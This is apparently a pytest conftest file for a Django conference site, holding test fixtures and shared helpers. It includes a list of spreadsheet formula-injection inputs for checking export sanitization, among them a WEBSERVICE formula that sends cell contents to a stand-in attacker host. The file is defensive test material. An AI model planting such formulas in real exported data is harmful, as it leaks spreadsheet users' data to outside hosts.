import os
import secrets
import subprocess
import sys
import threading
import unicodedata
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.core.cache import caches
from django.db import connection, connections
from django.test import Client
from django.utils import translation

from events import page_cache
from tests.factories import prove_second_factor

BASE_DIR = Path(settings.BASE_DIR)


def pytest_runtest_setup(item):
    """Tests marked `postgres` need a real PostgreSQL; on SQLite they say so and skip."""
    if item.get_closest_marker("postgres") and connection.vendor != "postgresql":
        pytest.skip(
            f"needs PostgreSQL, this run uses {connection.vendor}: "
            "set DATABASE_URL=postgres://... (.ci/run does)"
        )


@pytest.fixture(autouse=True)
def _english_to_begin_with():
    """Every test starts in the default language, as a command or a worker does. A request to
    /ru/... leaves Russian active in the thread, and a factory called next would fill the
    Russian columns of translated fields (events/translation.py) instead of the English."""
    translation.activate(settings.LANGUAGE_CODE)
    yield
    translation.activate(settings.LANGUAGE_CODE)


@pytest.fixture(autouse=True)
def _fresh_cache():
    """Rate limits and cached pages must not leak from one test into the next."""
    for each in caches.all():
        each.clear()
    page_cache.forget_version()
    yield
    for each in caches.all():
        each.clear()
    page_cache.forget_version()


@pytest.fixture(autouse=True)
def _english_between_tests():
    """A request to /ru/... leaves Russian active in the thread (LocaleMiddleware never
    switches back); each test starts in the default language, as a new request would."""
    from django.conf import settings

    translation.activate(settings.LANGUAGE_CODE)
    yield
    translation.activate(settings.LANGUAGE_CODE)


@pytest.fixture(autouse=True)
def _static_without_manifest(settings):
    """Tests run with DEBUG off but without collectstatic, so hashed names have no manifest."""
    settings.STORAGES = {
        **settings.STORAGES,
        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
    }


@pytest.fixture(autouse=True)
def _private_files(settings, tmp_path):
    """Private files (invitations, slides, badge PDFs) go to a fresh folder per test, never
    the developer's private/ (conference_site/storage.py reads the setting on each use)."""
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    return settings.PRIVATE_MEDIA_ROOT


@pytest.fixture(autouse=True)
def _force_login_proves_second_factor(monkeypatch):
    """force_login (and admin_client, which uses it) stands for a whole sign-in: the password
    and the second factor, proved just now (tests/factories.prove_second_factor). Tests of
    the second factor itself sign in through the pages (tests/mfa/)."""
    force_login = Client.force_login

    def force_login_with_second_factor(self, user, backend=None):
        force_login(self, user, backend)
        prove_second_factor(self, user)

    monkeypatch.setattr(Client, "force_login", force_login_with_second_factor)


def pytest_configure(config):
    """whitenoise looks for collected static files when each test's handler starts; the
    folder is empty in tests (collectstatic is a release step), but it must exist."""
    from django.conf import settings

    settings.STATIC_ROOT.mkdir(exist_ok=True)


# Helpers the tests of several apps share, imported by name (`from tests.conftest import
# at_once`): concurrency, database dumps, production-like processes, spreadsheet formulas,
# the template files.


def at_once(calls):
    """Runs each callable in its own thread, all released at the same moment. Returns
    their results (or the exception each raised), in order."""
    barrier = threading.Barrier(len(calls))
    results = [None] * len(calls)

    def run(index, call):
        try:
            barrier.wait()
            results[index] = call()
        except Exception as error:  # collected and asserted on below
            results[index] = error
        finally:
            connections.close_all()

    threads = [threading.Thread(target=run, args=(i, call)) for i, call in enumerate(calls)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    return results


def database_dump(tmp_path):
    """What a backup of the test database holds: pg_dump's output on PostgreSQL; on SQLite
    the database written out as a file (the test database may live in memory)."""
    if connection.vendor == "postgresql":
        db = connection.settings_dict
        command = ["pg_dump", "--data-only", "--dbname", db["NAME"], "--username", db["USER"]]
        if db["HOST"]:
            command += ["--host", db["HOST"]]
        if db["PORT"]:
            command += ["--port", str(db["PORT"])]
        env = {**os.environ, "PGPASSWORD": db["PASSWORD"] or ""}
        return subprocess.run(command, env=env, capture_output=True, check=True).stdout
    copy = tmp_path / "copy.sqlite3"
    with connection.cursor() as cursor:
        cursor.execute("VACUUM INTO %s", [str(copy)])
    return copy.read_bytes()


def production_env(**extra):
    """The environment a production server starts with: DEBUG off, real secret, HTTPS site."""
    # Only what a server's environment holds: none of the test run's settings, and not
    # DJANGO_ALLOW_ASYNC_UNSAFE, which the browser tests set for their own process.
    env = {key: os.environ[key] for key in ("PATH", "HOME", "LANG") if key in os.environ}
    env.update(
        DEBUG="False",
        SECRET_KEY=secrets.token_urlsafe(64),
        VISA_ENCRYPTION_KEYS=secrets.token_urlsafe(32),
        ALLOWED_HOSTS="conference.example.org",
        SITE_URL="https://conference.example.org",
        CSRF_TRUSTED_ORIGINS="https://conference.example.org",
        DJANGO_SETTINGS_MODULE="conference_site.settings",
    )
    env.update(extra)
    return env


def run_django(code, env):
    return subprocess.run(
        [sys.executable, "-c", f"import django; django.setup()\n{code}"],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


# (as typed, as exported): cleaned, then kept as text with a leading apostrophe.
PAYLOADS = [
    ('\x02=WEBSERVICE("http://evil.example/?"&A2)', '\'=WEBSERVICE("http://evil.example/?"&A2)'),
    ("\x01=1+1", "'=1+1"),
    ("\u200b=1", "'=1"),
    ("\ufeff\u00ad=1", "'=1"),
    ("\u202e=1", "'=1"),
    ("\t=1", "'=1"),
    ("\r\n=1", "'=1"),
    (" =1", "'=1"),
    ("\u00a0\u3000=1", "'=1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # a fullwidth equals sign
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(1)", "'@SUM(1)"),
    ("Zo\u00ebe\x0b\u200bO'Neil", "Zo\u00ebeO'Neil"),
    ("Jose\u0301", "Jos\u00e9"),  # NFC
]


def assert_safe(cells):
    for cell in cells:
        assert not starts_like_a_formula(cell), repr(cell)
        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in cell), repr(cell)


def template_files():
    """Every template of ours: the project's templates/ and each of our apps' templates/."""
    roots = [Path(directory) for engine in settings.TEMPLATES for directory in engine["DIRS"]]
    for app in apps.get_app_configs():
        path = Path(app.path)
        ours = path.is_relative_to(settings.BASE_DIR) and "site-packages" not in path.parts
        if ours and (path / "templates").is_dir():
            roots.append(path / "templates")
    files = []
    for root in roots:
        for file in sorted(root.rglob("*")):
            if file.suffix in {".html", ".txt"}:
                files.append((root, file))
    return files


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_a_formula(text):
    return unicodedata.normalize("NFKC", text)[:1] in FORMULA_STARTS
